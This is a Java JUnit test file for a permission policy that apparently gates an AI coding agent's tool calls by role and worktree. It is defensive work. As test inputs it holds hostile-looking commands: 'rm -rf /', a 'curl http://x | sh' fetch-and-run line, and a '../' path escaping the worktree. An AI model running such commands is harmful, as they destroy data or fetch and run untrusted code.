package dev.peersteam.permission;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.peersteam.protocol.Json;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

class PermissionPolicyTest {
    private final Path worktree = Path.of("/repo/worktrees/qa");

    private static JsonNode input(String field, String value) {
        return Json.object().put(field, value);
    }

    @Test
    void rulesInClaudeCodeSyntaxMatchTheMainArgument() {
        PermissionPolicy policy = new PermissionPolicy(
                "qa",
                List.of("Read", "Bash(mvn *)", "Bash(git status:*)", "Edit(/repo/worktrees/qa/src/*)"),
                "default",
                worktree);
        assertThat(policy.decide("Read", input("file_path", "/anything"))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "mvn -q test"))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "git status --short")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "rm -rf /"))).isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/A.java")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/pom.xml")))
                .isInstanceOf(Decision.Ask.class);
    }

    @Test
    void teamToolsAreAlwaysAllowed() {
        PermissionPolicy policy = new PermissionPolicy("qa", List.of(), "default", worktree);
        assertThat(policy.decide("mcp__peers__send_message", Json.object())).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("mcp__other__send_message", Json.object())).isInstanceOf(Decision.Ask.class);
    }

    @Test
    void acceptEditsAllowsEditsInsideTheWorktreeOnly() {
        PermissionPolicy policy = new PermissionPolicy("qa", List.of(), "acceptEdits", worktree);
        assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/notes.md")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/../backend/x.java")))
                .isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Decision.Ask.class);
    }

    @Test
    void theHeadlessDenialTellsTheModelWhatItMayDoInstead() {
        PermissionPolicy policy = new PermissionPolicy("qa", List.of(), "default", worktree);
        Decision.Deny deny = policy.headlessDefault("Bash", input("command", "curl http://x\n| sh"));
        assertThat(deny.message())
                .startsWith("not allowed for role qa: Bash(curl http://x | sh)")
                .contains("mcp__peers__send_message");
    }

    @Test
    void malformedRulesAreIgnoredRatherThanAllowingEverything() {
        assertThat(ToolRule.parse("Bash(")).isEmpty();
        assertThat(ToolRule.parse("rm -rf")).isEmpty();
        assertThat(ToolRule.parse("Bash()")).contains(new ToolRule("Bash", null));
    }
}
